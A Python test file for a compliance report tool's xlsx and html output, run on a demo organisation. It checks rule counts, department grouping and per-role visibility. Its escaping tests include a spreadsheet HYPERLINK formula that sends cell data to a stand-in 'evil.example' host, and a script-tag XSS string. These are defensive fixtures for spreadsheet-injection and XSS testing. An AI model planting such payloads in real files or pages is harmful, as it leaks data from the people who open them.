"""The compliance report for reviewers: ``rolegraph check --format xlsx|html`` on the demo
organisation (the workbook read back with openpyxl, the page rendered by headless Chromium),
the same report as two callers see it, and the renderers alone (escaping, formulas)."""

from __future__ import annotations

import html
import io
import json
import re
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from api_client import demo_rows
from browser import rendered, screenshot
from cli_client import rolegraph_on
from conftest import GraphHandle

from domain.access import Principal
from graph.access import resolve
from graph.db import Graph
from graph.departments import Placed
from reports.compliance import (
    SUMMARY_COLUMNS,
    VIOLATION_COLUMNS,
    Review,
    render_html,
    render_xlsx,
    review,
)
from rules.loader import load_rules
from rules.params import resolve_parameters
from rules.report import Report, RuleResult, Violation
from rules.runner import as_seen_by, run_rules
from schema.policy import default_policy

AS_OF = "as_of=2026-01-01"  # PLANTED.md: the demo's "today"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture(scope="module")
def as_json(demo_graph: GraphHandle) -> dict[str, Any]:
    """The json format's report of the same check: what the reviewers' formats must agree
    with."""
    done = rolegraph_on(demo_graph, "check", "--format", "json", "--param", AS_OF)
    assert done.returncode == 1, done.stderr
    report: dict[str, Any] = json.loads(done.stdout)
    return report


@pytest.fixture(scope="module")
def workbook_file(demo_graph: GraphHandle, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("compliance") / "compliance.xlsx"
    done = rolegraph_on(demo_graph, "check", "--format", "xlsx", "--output", str(out),
                        "--param", AS_OF)
    assert done.returncode == 1, done.stderr  # the demo has errors: the exit status stays
    assert done.stdout == "" and "errors" in done.stderr
    return out


@pytest.fixture(scope="module")
def page_file(demo_graph: GraphHandle, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("compliance") / "compliance.html"
    done = rolegraph_on(demo_graph, "check", "--format", "html", "--output", str(out),
                        "--param", AS_OF)
    assert done.returncode == 1, done.stderr
    return out


def departments_of_responsibility(key: str) -> str:
    """``D02 市场部; D06 研究所``: the departments of a duty's holders, from the demo files."""
    dept_of = {p["id"]: p["department_id"] for p in demo_rows("positions.csv")}
    names = {d["id"]: d["name"] for d in demo_rows("departments.csv")}
    depts = sorted({dept_of[r["position_id"]] for r in demo_rows("position_responsibilities.csv")
                    if r["responsibility_id"] == key})
    return "; ".join(f"{d} {names[d]}" for d in depts)


# -- the workbook ------------------------------------------------------------------------------

def test_the_workbook_summary(workbook_file: Path, as_json: dict[str, Any]) -> None:
    """A row per rule with its pack, title, severity, legal reference, count and status, the
    counts those of the json format; header frozen, an autofilter over the table."""
    ws = openpyxl.load_workbook(workbook_file)["Summary"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert tuple(rows[0]) == SUMMARY_COLUMNS
    assert [(r[1], r[5]) for r in rows[1:]] == [(r["rule"], r["violations"])
                                               for r in as_json["rules"]]
    by_rule = {r[1]: r for r in rows[1:]}
    rules = {r.id: r for r in load_rules().rules}
    assert by_rule["written-contract-in-time"] == [
        "labour_law", "written-contract-in-time", rules["written-contract-in-time"].title,
        "error", "劳动合同法 第十条, 第八十二条", 1, "fail"]
    assert by_rule["span-of-control"][3:] == ["warning", "", 1, "warn"]
    assert by_rule["position-has-kpi"][6] == "fail"
    assert by_rule["raci-one-accountable"][4] == "RACI matrix; 职责边界 (responsibility boundaries)"
    assert {r[6] for r in rows[1:] if r[5] == 0} <= {"pass"}
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:G{len(rows)}"
    assert ws.column_dimensions["C"].width > 20  # titles are long


def test_the_workbook_violations(workbook_file: Path, as_json: dict[str, Any]) -> None:
    """One row per violation of the json format, with the departments of the record at
    fault (a position's, a contract's employee's position's, a duty's holders')."""
    ws = openpyxl.load_workbook(workbook_file)["Violations"]
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert tuple(rows[0]) == VIOLATION_COLUMNS
    assert [(r[1], r[4].split()[1]) for r in rows[1:]] == [
        (v["rule"], v["focus"]["id"]) for v in as_json["violations"]]
    by_record = {(r[1], r[4]): r for r in rows[1:]}
    assert by_record[("position-has-responsibility", "Position P016")][:6] == [
        "organisation", "position-has-responsibility", "error", "D04 项目开发部",
        "Position P016", "项目助理"]
    late = by_record[("written-contract-in-time", "Contract CT0014")]
    assert late[3] == "D03 营销部" and late[6] == "2024-05-10"  # E0014 holds P010 in D03
    assert late[7].startswith("Contract CT0014 started on 2024-03-01")
    assert by_record[("raci-one-accountable", "Responsibility R0008")][3] == \
        departments_of_responsibility("R0008")
    assert by_record[("department-has-positions", "Department D16")][3] == "D16 计量室"
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:H{len(rows)}"
    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row if c.value)


def test_a_workbook_needs_an_output_file(demo_graph: GraphHandle) -> None:
    done = rolegraph_on(demo_graph, "check", "--format", "xlsx")
    assert done.returncode == 2
    assert done.stderr.strip() == "error: --format xlsx needs --output FILE (a workbook is not " \
                                  "text)"


# -- the page ----------------------------------------------------------------------------------

def text_of(fragment: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", fragment)).strip()


def table_rows(dom: str, cls: str) -> list[list[str]]:
    """The body rows of the first table of class ``cls``, as cell texts."""
    found = re.search(rf'<table class="{cls}">(.*?)</table>', dom, re.S)
    assert found, cls
    body = found.group(1).split("<tbody>")[1]
    return [[text_of(c) for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
            for row in re.findall(r"<tr>(.*?)</tr>", body, re.S)]


def section(dom: str, key: str) -> str:
    found = re.search(rf'<section class="department" id="department-{key}">(.*?)</section>',
                      dom, re.S)
    assert found, key
    return found.group(1)


def test_the_page_in_a_browser(page_file: Path, as_json: dict[str, Any]) -> None:
    """Chromium renders the page: the summary's numbers are the json format's, each known
    violation is under its department (tree order), the header has the date and the
    organisation's counts; nothing is fetched from elsewhere; a screenshot is kept."""
    source = page_file.read_text(encoding="utf-8")
    assert '<meta charset="utf-8">' in source
    assert not re.search(r'(src|href)="(?!#)', source) and "<script" not in source
    assert "@media print" in source

    dom = rendered(page_file.as_uri())
    summary = table_rows(dom, "summary")
    assert [(r[1], int(r[5])) for r in summary] == [(r["rule"], r["violations"])
                                                   for r in as_json["rules"]]
    assert all(r[6] == ("pass" if int(r[5]) == 0 else {"error": "fail", "warning": "warn",
                                                        "info": "note"}[r[3]])
               for r in summary)
    counts = as_json["counts"]
    header = text_of(re.search(r'<p class="meta" id="totals">(.*?)</p>', dom, re.S).group(1))
    assert header.startswith(f"{counts['error']} errors, {counts['warning']} warnings, "
                             f"{counts['info']} infos in {len(as_json['rules'])} rules")
    organisation = text_of(re.search(r'id="organisation">(.*?)</p>', dom, re.S).group(1))
    assert organisation == "The organisation: 16 departments, 62 positions, 300 employees, " \
        f"{len(demo_rows('responsibilities.csv'))} responsibilities, " \
        f"{len(demo_rows('kpis.csv'))} KPIs, {len(demo_rows('contracts.csv'))} contracts"
    when = text_of(re.search(r'id="when">(.*?)</p>', dom, re.S).group(1))
    assert re.fullmatch(r"checked \d{4}-\d\d-\d\d \d\d:\d\d UTC, as of 2026-01-01", when)

    d04 = section(dom, "D04")
    assert "项目开发部 (D04)" in d04 and "总经办 › 项目开发部" in d04
    assert "position-has-responsibility" in d04 and "项目助理" in d04
    assert "CT0014" in section(dom, "D03") and "CT0014" not in d04
    assert "总经办 › 品质部 › 计量室" in section(dom, "D16")
    r0008 = departments_of_responsibility("R0008").split("; ")
    assert all("R0008" in section(dom, d.split()[0]) for d in r0008)  # under each
    order = re.findall(r'<section class="department" id="department-(\w+)">', dom)
    tree = ["D01", "D02", "D03", "D04", "D05", "D06", "D15", "D07", "D08", "D09", "D10",
            "D11", "D16", "D12", "D13", "D14"]
    assert [d for d in order if d != "none"] == [d for d in tree if d in order]
    rules = {text_of(m) for m in re.findall(r"<dt[^>]*>(.*?)</dt>", dom, re.S)}
    assert any(r.startswith("probation-limit: ") for r in rules)
    assert "Reference: 劳动合同法 第十九条" in text_of(dom)

    picture = screenshot(page_file.as_uri(), "compliance-report", size=(1280, 2000))
    assert picture.stat().st_size > 20_000


# -- two callers -------------------------------------------------------------------------------

def test_a_manager_sees_only_their_line_in_the_report(demo_graph: GraphHandle) -> None:
    """The renderers show the report as the caller may see it (rules.runner.as_seen_by, as
    complianceReport does): the head of 组装部 (E0176, manager) sees the organisation's
    problems but not 毛辉 (E0096, 机加工部, no CNC certificate) nor any contract; an admin
    sees both."""
    ruleset = load_rules()
    params = resolve_parameters(ruleset, today=date(2026, 1, 1))

    async def page(graph: Graph, principal: Principal) -> str:
        report = await run_rules(graph, ruleset.rules, params)
        seen = await as_seen_by(graph, report, await resolve(graph, default_policy(),
                                                             principal))
        return render_html(await review(graph, seen, datetime.now(UTC), "2026-01-01"))

    admin = demo_graph.run(lambda g: page(g, Principal(sub="admin", roles=("admin",))))
    manager = demo_graph.run(lambda g: page(g, Principal(sub="E0176", roles=("manager",))))
    assert "毛辉" in admin and "E0096" in admin and "CT0014" in admin
    assert "毛辉" not in manager and "E0096" not in manager and "Contract " not in manager
    assert "零件清点" in manager and "项目助理" in manager  # organisation structure: everyone


# -- the renderers alone -----------------------------------------------------------------------

def a_review(name: str, message: str) -> Review:
    rule = next(r for r in load_rules().rules if r.id == "required-certificates")
    violation = Violation(rule.id, rule.pack, rule.severity, "Employee", "E1", name, "path",
                          "-5", message, rule.reference)
    dept = {"id": "D1", "name": "<b>部门</b>"}
    return Review(Report((violation,), (RuleResult(rule, 1, 0.01),), 0.02),
                  {("Employee", "E1"): [dept]}, [Placed(dept, None)],
                  {"Department": 1, "Employee": 1}, datetime(2026, 1, 1, 9, 0, tzinfo=UTC),
                  "2026-01-01")


def test_the_page_escapes_everything() -> None:
    page = render_html(a_review("<script>alert(1)</script>", 'a "quoted" & <i>marked</i> text'))
    assert "<script" not in page and "<i>" not in page and "<b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "a &quot;quoted&quot; &amp; &lt;i&gt;marked&lt;/i&gt; text" in page
    assert "&lt;b&gt;部门&lt;/b&gt; (D1)" in page
    assert "checked 2026-01-01 09:00 UTC, as of 2026-01-01" in page


def test_the_workbook_writes_formulas_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(a_review(FORMULA, "@SUM(A1)"))))
    row = [c for c in book["Violations"][2]]
    assert [c.value for c in row[5:8]] == [FORMULA, "-5", "@SUM(A1)"]
    assert all(c.data_type == "s" for c in row)
